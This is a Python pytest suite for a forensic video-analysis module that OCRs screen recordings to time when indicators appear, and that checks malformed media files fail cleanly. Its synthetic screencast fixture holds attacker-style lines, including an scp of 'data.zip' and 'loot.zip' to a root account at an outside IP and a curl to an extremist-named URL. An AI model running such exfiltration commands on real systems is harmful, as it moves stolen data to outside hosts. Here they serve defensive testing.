# SPDX-License-Identifier: GPL-3.0-or-later
"""Video analysis: first-appearance times of on-screen indicators, kept frames, hostile files.

Recordings are rendered here (terminal text, H.264 via PyAV), so the ground truth is known exactly.
Hostile files run in a child process with a timeout, as the sandbox will run them: a hang or crash
fails the test instead of the test run.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
from fractions import Fraction
from pathlib import Path
from typing import Any

import av
import numpy as np
import pytest
from PIL import Image, ImageDraw

from desktop.ingest.ocr import OcrEngine
from desktop.ingest.video import VideoAnalysis, analyse_video, probe

from .recordings import make, render, truth
from .screencast import Shown, render_screencast, terminal_font

SHOWN = (
    Shown(1.0, "$ whoami"),
    Shown(1.5, "operator"),
    Shown(3.0, "$ ping 185.141.63.120"),
    Shown(3.5, "64 bytes from 185.141.63.120: icmp_seq=1 ttl=52 time=41.2 ms"),
    Shown(5.0, r"PS> cd C:\Users\operator\Desktop\emails"),
    Shown(6.5, "PS> dir"),
    Shown(7.0, "voters_FL.xlsx  data.zip  notes.txt"),
    Shown(8.5, "$ scp data.zip root@45.142.212.61:/tmp/"),
    Shown(10.0, "$ curl http://proudboys-official.com/send.php"),
    Shown(11.5, "root"),
)
EXPECTED = {  # indicator -> second it first became legible
    "185.141.63.120": 3.0,
    r"C:\Users\operator\Desktop\emails": 5.0,
    "voters_FL.xlsx": 7.0,
    "45.142.212.61": 8.5,
    "/tmp/": 8.5,
    "http://proudboys-official.com/send.php": 10.0,
}


def _first_time(analysis: VideoAnalysis, needle: str) -> float | None:
    times = [s.time_s for s in analysis.first_seen if needle in s.text]
    return min(times) if times else None


@pytest.fixture(scope="module")
def recording(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("video") / "screen.mp4"
    return render_screencast(path, SHOWN, duration_s=13, fps=10, cursor=True)


@pytest.fixture(scope="module")
def analysis(recording: Path, engine: OcrEngine) -> tuple[VideoAnalysis, list[float]]:
    ticks: list[float] = []
    return analyse_video(recording, engine, progress=ticks.append), ticks


def test_probe_reports_container_and_stream(recording: Path) -> None:
    info = probe(recording)
    assert info["container"].startswith("mov,mp4")
    assert info["duration_s"] == pytest.approx(13.0, abs=0.2)
    assert (info["width"], info["height"], info["fps"]) == (1280, 720, 10.0)
    assert info["has_video"]
    assert info["rotation"] == 0
    video = info["streams"][0]
    assert video["codec"] in ("h264", "mpeg4")
    assert video["pixel_format"] == "yuv420p"
    assert "encoder" in info["tags"]
    assert info["encoder"]
    json.dumps(info)


def test_every_indicator_found_at_its_first_frame(analysis: tuple[VideoAnalysis, list[float]]) -> None:
    result, _ = analysis
    for needle, shown_at in EXPECTED.items():
        seen = _first_time(result, needle)
        assert seen is not None, f"{needle} never read; read: {[s.text for s in result.first_seen]}"
        assert seen == pytest.approx(shown_at, abs=1.0), needle
    assert result.complete
    assert not result.warnings
    assert result.frames_decoded == 130


def test_reads_only_what_changed(analysis: tuple[VideoAnalysis, list[float]]) -> None:
    result, _ = analysis
    assert result.ocr_calls["full"] <= 1  # the first frame; every later change is a line or a crop
    assert len(result.frames) < 40  # of 130 decoded
    # speed itself is measured by tests/bench/video_ocr_speed.py; wall time here depends on the load
    assert sum(result.ocr_calls.values()) < 40


def test_lines_are_deduplicated_with_first_appearance(analysis: tuple[VideoAnalysis, list[float]]) -> None:
    result, _ = analysis
    texts = [s.text for s in result.first_seen]
    assert len(texts) == len(set(texts))
    times = [s.time_s for s in result.first_seen]
    assert times == sorted(times)
    ping = next(s for s in result.first_seen if "ping 185.141.63.120" in s.text)
    assert ping.has_indicators
    whoami = next(s for s in result.first_seen if "whoami" in s.text)
    assert whoami.time_s == pytest.approx(1.0, abs=0.2)


def test_kept_frames_are_lossless_pngs_with_the_box_inside(
        analysis: tuple[VideoAnalysis, list[float]]) -> None:
    result, _ = analysis
    kept = list(result.kept_frames())
    assert kept, "no frame kept"
    by_index = {f.frame_index: f for f in result.frames}
    for frame_index, time_s, png in kept:
        assert png.startswith(b"\x89PNG\r\n\x1a\n")
        with Image.open(io.BytesIO(png)) as image:
            assert image.format == "PNG"
            assert image.size == (1280, 720)
            assert image.mode == "RGB"
            pixels = np.asarray(image)
        frame = by_index[frame_index]
        assert frame.kept
        assert frame.time_s == time_s
        for line in frame.lines:
            x, y, w, h = line.box
            assert x >= 0
            assert y >= 0
            assert x + w <= 1280
            assert y + h <= 720
            assert pixels[y:y + h, x:x + w].max() > 150  # light text inside the box
    ip_frame = next(f for f in result.frames if any("185.141.63.120" in ln.text for ln in f.lines))
    assert ip_frame.kept


def test_to_dict_is_json_and_excludes_pngs(analysis: tuple[VideoAnalysis, list[float]]) -> None:
    result, _ = analysis
    data = result.to_dict()
    text = json.dumps(data)
    assert "PNG" not in text
    assert data["duration_s"] == pytest.approx(13.0, abs=0.2)
    assert data["frames"][0]["lines"][0].keys() == {"text", "confidence", "box"}
    assert {"first_seen", "ocr_calls", "kept_frame_indexes", "complete", "streams", "tags"} <= data.keys()


def test_progress_is_monotonic_and_ends_at_one(analysis: tuple[VideoAnalysis, list[float]]) -> None:
    _, ticks = analysis
    assert ticks == sorted(ticks)
    assert ticks[-1] == 1.0
    assert len(ticks) > 10


def test_max_seconds_stops_early(recording: Path, engine: OcrEngine) -> None:
    result = analyse_video(recording, engine, max_seconds=4.0)
    assert not result.complete
    assert result.analysed_s <= 4.0
    assert _first_time(result, "185.141.63.120") is not None
    assert _first_time(result, "proudboys") is None


def test_scrolling_terminal_reads_only_the_new_lines(tmp_path: Path, engine: OcrEngine) -> None:
    # 40 px font: 15 rows fit, so from the 16th line on every new line scrolls the whole screen
    shown = [Shown(0.5 + 0.5 * i, f"line {i:02d} host-{i}.example.net") for i in range(19)]
    shown.append(Shown(10.0, "scp loot.zip root@45.142.212.61:/srv/"))
    path = render_screencast(tmp_path / "scroll.mp4", shown, duration_s=11, font_size=40, scroll=True)
    result = analyse_video(path, engine)
    assert result.ocr_calls["full"] <= 1, result.ocr_calls
    for i in (15, 17, 18):
        assert _first_time(result, f"line {i:02d}") == pytest.approx(0.5 + 0.5 * i, abs=0.5)
    assert _first_time(result, "45.142.212.61") == pytest.approx(10.0, abs=0.5)


def test_rotation_metadata_is_applied_before_reading(tmp_path: Path, engine: OcrEngine) -> None:
    # a phone recording stored sideways with a display matrix saying "turn 90 degrees to view"
    image = Image.new("RGB", (640, 360), (20, 20, 20))
    ImageDraw.Draw(image).text((20, 150), "ping 185.141.63.120", font=terminal_font(28), fill=(230, 230, 230))
    stored = np.ascontiguousarray(np.rot90(np.asarray(image), k=-1))
    path = tmp_path / "rotated.mp4"
    with av.open(str(path), "w") as out:
        stream = out.add_stream("mpeg4", rate=10)
        stream.width, stream.height, stream.pix_fmt = stored.shape[1], stored.shape[0], "yuv420p"
        stream.set_display_rotation(90)
        for _ in range(5):
            for packet in stream.encode(av.VideoFrame.from_ndarray(stored, format="rgb24")):
                out.mux(packet)
        for packet in stream.encode():
            out.mux(packet)
    assert probe(path)["rotation"] == 90
    result = analyse_video(path, engine)
    assert _first_time(result, "185.141.63.120") == 0.0
    _, _, png = next(result.kept_frames())
    with Image.open(io.BytesIO(png)) as kept:
        assert kept.size == (640, 360)  # stored as the viewer sees it


def test_typed_at_30_fps_reports_settled_values_only(tmp_path: Path, engine: OcrEngine) -> None:
    # every key press leaves the screen still for a frame or two: no prefix may become an indicator
    rec = make("typed", 3, duration_s=10, small=True)
    path = render(rec, tmp_path / "typed.mp4")
    result = analyse_video(path, engine)
    expected = {(t.type, t.value): t.time_s for t in truth(rec) if t.readable}
    presented = {(o.found.type, o.found.value): o for o in result.occurrences if o.status != "uncertain"}
    assert expected, "the generator showed no indicator"
    false = [k for k in presented if k not in expected]
    assert not false, f"values presented as certain that were never on screen: {false}"
    # a line still being typed in the last seconds of a recording is uncertain by design: the next
    # key press might have extended it
    settled = [k for k, t in expected.items() if t <= rec.duration_s - 3.0]
    found = [k for k in settled if k in presented]
    assert len(found) >= 0.7 * len(settled), (sorted(expected), sorted(presented))  # recall: the benchmark
    assert all(o.status == "uncertain" for o in result.occurrences
               if o.time_s > rec.duration_s - 1.0 and o.found.end >= len(o.text) - 1)
    for key in found:
        assert abs(presented[key].time_s - expected[key]) <= 0.5, (key, presented[key].time_s, expected[key])
    for occ in result.occurrences:
        assert occ.status in ("certain", "uncertain", "enhanced")
        assert 0.0 <= occ.confidence <= 1.0
        assert 1 <= occ.frames_agree <= occ.reads
    kept = {index for index, _, _ in result.kept_frames()}
    assert {o.frame_index for o in result.occurrences} <= kept  # every occurrence cites a kept frame
    assert sum(result.ocr_calls.values()) < 40  # not one read per key press (300 frames)


# ------------------------------------------------------------------------------------- hostile

_CHILD = """
import json, sys
from desktop.ingest.video import analyse_video, probe

class NoOcr:
    def read(self, image, offset=(0, 0)):
        return []
    def read_line(self, band, offset=(0, 0)):
        return None

try:
    meta = probe(sys.argv[1])
    result = analyse_video(sys.argv[1], NoOcr())
    print(json.dumps({"ok": True, "complete": result.complete, "frames": result.frames_decoded,
                      "has_video": meta["has_video"], "warnings": result.warnings}))
except ValueError as exc:
    print(json.dumps({"ok": False, "error": str(exc)}))
"""


def _run_child(path: Path) -> dict[str, Any]:
    done = subprocess.run([sys.executable, "-c", _CHILD, str(path)],
                          capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr[-2000:]
    outcome: dict[str, Any] = json.loads(done.stdout.strip().splitlines()[-1])
    return outcome


def _one_sentence(message: str) -> None:
    assert message
    assert message[0].isupper()
    assert message.endswith(".")
    assert "Traceback" not in message
    assert "\n" not in message


@pytest.fixture(scope="module")
def small_mp4(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    path = tmp_path_factory.mktemp("hostile") / "small.mp4"
    render_screencast(path, [Shown(0.0, "$ ping 185.141.63.120")], duration_s=3, size=(320, 240), fps=10)
    return path.read_bytes()


@pytest.mark.parametrize("cut", ["406", "half"])
def test_truncated_mp4_is_a_clean_error_or_partial(tmp_path: Path, small_mp4: bytes, cut: str) -> None:
    size = 406 if cut == "406" else len(small_mp4) // 2
    path = tmp_path / "cut.mp4"
    path.write_bytes(small_mp4[:size])
    outcome = _run_child(path)
    if outcome["ok"]:
        assert not outcome["complete"] or outcome["warnings"]
    else:
        _one_sentence(outcome["error"])


def test_truncated_faststart_mp4_returns_what_came_before(tmp_path: Path) -> None:
    path = tmp_path / "fast.mp4"
    with av.open(str(path), "w", options={"movflags": "faststart"}) as out:
        stream = out.add_stream("mpeg4", rate=10)
        stream.width, stream.height, stream.pix_fmt = 320, 240, "yuv420p"
        for i in range(40):
            frame = av.VideoFrame.from_ndarray(np.full((240, 320, 3), i * 6, dtype=np.uint8), format="rgb24")
            for packet in stream.encode(frame):
                out.mux(packet)
        for packet in stream.encode():
            out.mux(packet)
    data = path.read_bytes()
    cut = tmp_path / "fast-cut.mp4"
    cut.write_bytes(data[: len(data) // 2])
    outcome = _run_child(cut)
    if outcome["ok"]:
        assert 0 < outcome["frames"] < 40
        assert not outcome["complete"] or outcome["warnings"]
    else:
        _one_sentence(outcome["error"])


@pytest.mark.parametrize("kind", ["random", "empty", "png", "text"])
def test_not_a_video_is_a_clean_value_error(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "evidence.mp4"
    if kind == "random":
        path.write_bytes(np.random.default_rng(7).integers(0, 256, 200_000, dtype=np.uint8).tobytes())
    elif kind == "empty":
        path.write_bytes(b"")
    elif kind == "png":
        Image.new("RGB", (64, 64), (200, 10, 10)).save(path, format="PNG")
    else:
        path.write_text("ping 185.141.63.120\n" * 100)
    outcome = _run_child(path)
    assert not outcome["ok"], outcome
    _one_sentence(outcome["error"])


def test_audio_only_file_gives_metadata_only(tmp_path: Path) -> None:
    path = tmp_path / "voice.m4a"
    with av.open(str(path), "w", format="mp4") as out:
        stream = out.add_stream("aac", rate=16000)
        stream.layout = "mono"
        samples = (np.sin(np.arange(16000 * 2) / 8) * 8000).astype(np.int16).reshape(1, -1)
        for start in range(0, samples.shape[1], 1024):
            frame = av.AudioFrame.from_ndarray(samples[:, start:start + 1024], format="s16", layout="mono")
            frame.sample_rate = 16000
            frame.pts = start
            frame.time_base = Fraction(1, 16000)
            for packet in stream.encode(frame):
                out.mux(packet)
        for packet in stream.encode():
            out.mux(packet)
    outcome = _run_child(path)
    assert outcome["ok"]
    assert not outcome["has_video"]
    assert outcome["frames"] == 0
    assert outcome["warnings"] == ["The file has no video stream; only its metadata was read."]
    info = probe(path)
    assert info["streams"][0]["type"] == "audio"
    assert info["streams"][0]["sample_rate"] == 16000
